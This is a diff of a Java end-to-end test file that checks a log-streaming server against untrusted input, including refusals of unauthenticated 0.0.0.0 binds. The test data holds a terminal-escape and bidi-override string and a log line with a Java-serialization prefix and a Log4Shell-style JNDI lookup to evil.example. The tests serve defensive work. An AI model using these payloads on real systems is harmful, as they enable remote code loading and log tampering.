@@ -82,8 +82,8 @@ class UntrustedE2E {
             value = {
                 "``, host = \"0.0.0.0\", allow_unauthenticated",
                 "``, host = \"::\", allow_unauthenticated",
-                "``, enabled = true~[streams.tcpserver]~enabled = true~port = 1~host = \"0.0.0.0\", allow_unauthenticated",
-                "``, enabled = true~[streams.wsserver]~enabled = true~port = 1~host = \"0.0.0.0\", allow_unauthenticated",
+                "``, [streams.tcpserver]~enabled = true~port = 1~host = \"0.0.0.0\", allow_unauthenticated",
+                "``, [streams.wsserver]~enabled = true~port = 1~host = \"0.0.0.0\", allow_unauthenticated",
                 "[control]~port = 1~host = \"0.0.0.0\", ``, authentication",
                 "[auth]~type = \"bearer\"~[auth.bearer_auth]~token_hashes = [\"a:HASH\"], host = \"0.0.0.0\", allow_plaintext_auth",
                 "[auth]~ip_whitlist = [\"10.0.0.1\"], ``, did you mean ip_whitelist",
@@ -178,8 +178,7 @@ class UntrustedE2E {
     @Test
     void nothingThatAClientCallsItselfOrAsksForSteersWhoReadsTheLogs() throws Exception {
         String hash = "0".repeat(64);
-        String tables = "[control]~port = " + Program.freePorts(1).get(0)
-                + "~[audit]~enabled = true~file = \"audit.jsonl\"~[auth]~type = \"bearer\"~[auth.bearer_auth]~"
+        String tables = "[audit]~enabled = true~file = \"audit.jsonl\"~[auth]~type = \"bearer\"~[auth.bearer_auth]~"
                 + "token_hashes = [\"a:" + hash + "\"]";
         String hostile = "\u001b[2J\u009b31m\u202e" + "x".repeat(300);
         try (Program program = start(tables, "").awaitReady()) {
@@ -325,11 +324,10 @@ class UntrustedE2E {
                 format = "raw"
                 """.formatted(port, tcp));
         String options = "-Dio.netty.transport.noNative=true -Xlog:class+load:file=" + classes;
-        try (Program program = Program.start(
-                                folder, Map.of("JAVA_TOOL_OPTIONS", options), "--config", "logwisp.toml")
+        try (Program program = Program.start(folder, Map.of("JAVA_TOOL_OPTIONS", options), "--config", "logwisp.toml")
                         .awaitReady();
                 LineClient http = LineClient.get(port, "/stream/raw");
-                RawWebSocket web = RawWebSocket.connect(port, "/ws?format=raw");
+                RawWebSocket web = RawWebSocket.connect(port, "/ws");
                 LineClient raw = LineClient.tcp(tcp)) {
             Awaitility.await().until(() -> status().contains("\"transport\":\"tcp\""));
             LogWriter.appendLines(log, "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA== ${jndi:ldap://evil.example/a}");
